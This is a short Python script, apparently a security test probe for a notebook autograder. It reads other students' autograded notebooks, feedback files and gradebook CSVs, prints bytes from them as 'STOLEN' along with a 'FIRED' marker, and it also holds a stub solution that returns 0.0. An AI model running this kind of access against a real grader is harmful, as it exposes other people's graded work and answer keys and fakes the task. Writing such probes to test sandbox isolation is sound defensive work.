# what: Reads autograded notebooks and feedback pages of others, which show what the hidden cells gave.
# gains: key
# where: solution
# fires: stdout text `FIRED autograded_of_others`
# stock: succeeds

import glob
import os

root = os.path.dirname("@GRADEBOOK@")
for file in glob.glob(f"{root}/autograded/*/*/*") + glob.glob(f"{root}/feedback/*/*/*") + glob.glob(f"{root}/*.csv"):
    try:
        print("STOLEN", open(file, "rb").read(16).hex())
        break
    except OSError:
        pass
print("FIRED autograded_of_others", flush=True)


def conv_single_step(a_slice_prev, W, b):
    return 0.0
